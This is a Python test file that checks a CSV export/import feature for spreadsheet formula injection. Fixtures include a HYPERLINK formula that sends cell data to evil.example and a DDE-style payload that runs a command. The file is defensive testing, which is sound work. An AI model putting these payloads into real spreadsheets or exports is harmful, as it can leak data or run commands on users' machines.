"""Export marks formula-like text cells with a leading `'`; Holdfast's import removes it again."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import select

from bot.csv_format import format_text, text_value
from bot.operations.export_book import export_workspace
from bot.operations.import_book import import_checkins, import_customers
from bot.rules.limits import clean_text
from bot.rules.names import name_key
from bot.rules.vocabulary import Verdict
from storage.checkins import add_checkin
from storage.db import Database, open_database
from storage.models import CheckIn, Customer

TEAM = "T0001"
TODAY = date(2026, 11, 20)
NOW = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
# What a spreadsheet runs as a formula when a cell starts with it (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-2+3 is what they said",
    "spoke_with": "+44 20 7946 0000",
    "new_reason": "\tindented with a tab",
    "next_step": "'quoted' already",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" x", "' x"),
        ("'x", "''x"),
        ("plain = text", "plain = text"),
        ("", ""),
        (None, ""),
    ],
)
def test_formula_like_text_is_marked(value: str | None, cell: str) -> None:
    assert format_text(value) == cell


@pytest.mark.parametrize(
    ("cell", "value"),
    [("'=1+1", "=1+1"), ("''x", "'x"), ("'\tx", "\tx"), ("  'x  ", "x"), ("x'", "x'"), ("'", "")],
)
def test_import_removes_one_leading_mark(cell: str, value: str) -> None:
    assert text_value(cell) == value


# What Holdfast stores as text: cleaned, with no white space at the end (every path trims it).
STORED_TEXT = st.text().map(clean_text).map(str.rstrip)


@given(STORED_TEXT)
def test_any_stored_text_round_trips_through_a_cell(value: str) -> None:
    cell = format_text(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert text_value(cell) == value


@pytest.fixture
def second_db(db: Database, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Database]:
    """Another fresh database of the same kind as `db`."""
    url = f"sqlite:///{tmp_path / 'second.db'}" if db.is_sqlite else request.getfixturevalue("postgres_url")
    database = open_database(url)
    yield database
    database.dispose()


def store_hostile_customer(database: Database) -> None:
    """A customer and a check-in whose every text field starts like a formula."""
    customer = Customer(
        team_id=TEAM,
        name=HOSTILE["name"],
        name_key=name_key(HOSTILE["name"]),
        owner_user_id="U0ANN",
        original_reason=HOSTILE["reason"],
        arr=1000.0,
        last_changes=[],
    )
    checkin = CheckIn(
        team_id=TEAM,
        customer_id=0,
        occurred_on=date(2026, 3, 1),
        author_user_id="U0ANN",
        note=HOSTILE["note"],
        spoke_with=HOSTILE["spoke_with"],
        verdict=Verdict.CHANGED,
        new_reason=HOSTILE["new_reason"],
        next_step=HOSTILE["next_step"],
        next_step_due=date(2026, 3, 15),
    )
    with database.transaction() as session:
        session.add(customer)
        session.flush()
        add_checkin(checkin, customer=customer, session=session, now=NOW)


def cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text("utf-8"))) for cell in row]


def import_files(database: Database, folder: Path) -> None:
    import_customers(
        io.StringIO((folder / "customers.csv").read_text("utf-8")),
        database=database,
        team_id=TEAM,
        resolve_emails=None,
        today=TODAY,
        now=NOW,
    )
    import_checkins(
        io.StringIO((folder / "checkins.csv").read_text("utf-8")),
        database=database,
        team_id=TEAM,
        resolve_emails=None,
        now=NOW,
    )


def test_no_exported_cell_starts_like_a_formula(db: Database, tmp_path: Path) -> None:
    store_hostile_customer(db)
    export_workspace(db, tmp_path, TEAM)
    exported = cells(tmp_path / "customers.csv") + cells(tmp_path / "checkins.csv")
    assert [cell for cell in exported if cell.startswith(FORMULA_STARTS)] == []
    for value in HOSTILE.values():
        assert format_text(value) in exported
        assert format_text(value).startswith("'")


def test_marked_cells_round_trip_through_import_and_export(
    db: Database, second_db: Database, tmp_path: Path
) -> None:
    store_hostile_customer(db)
    export_workspace(db, tmp_path / "first", TEAM)
    import_files(second_db, tmp_path / "first")
    export_workspace(second_db, tmp_path / "second", TEAM)

    for name in ("customers.csv", "checkins.csv"):
        assert (tmp_path / "second" / name).read_bytes() == (tmp_path / "first" / name).read_bytes()
    with second_db.session() as session:
        customer = session.exec(select(Customer)).one()
        checkin = session.exec(select(CheckIn)).one()
    assert (customer.name, customer.original_reason, customer.current_reason) == (
        HOSTILE["name"],
        HOSTILE["reason"],
        HOSTILE["new_reason"],
    )
    assert (checkin.note, checkin.spoke_with, checkin.new_reason, checkin.next_step) == (
        HOSTILE["note"],
        HOSTILE["spoke_with"],
        HOSTILE["new_reason"],
        HOSTILE["next_step"],
    )
